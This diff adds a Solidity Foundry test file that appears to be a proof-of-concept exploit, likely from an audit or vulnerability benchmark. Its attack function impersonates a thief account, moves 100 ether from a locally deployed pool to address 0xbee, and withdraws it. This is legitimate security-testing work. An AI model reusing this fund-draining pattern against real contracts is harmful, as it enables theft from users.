@@ -1,0 +1,28 @@
+// SPDX-License-Identifier: UNLICENSED
+pragma solidity ^0.8.17;
+
+import {LossTest} from "primacy/LossTest.sol";
+import {Setup, vm} from "./Setup.sol";
+
+contract Proof is LossTest, Setup {
+    function setUp() public {
+        deploy();
+    }
+
+    function fundsToken() internal pure override returns (address) {
+        return address(0);
+    }
+
+    function fundsHolders() internal view override returns (address[] memory holders) {
+        holders = new address[](1);
+        holders[0] = address(pool);
+    }
+
+    function attack() internal override {
+        vm.startPrank(thief);
+        pool.move(address(0xbee), 100 ether);
+        vm.stopPrank();
+        vm.prank(address(0xbee));
+        pool.withdraw();
+    }
+}
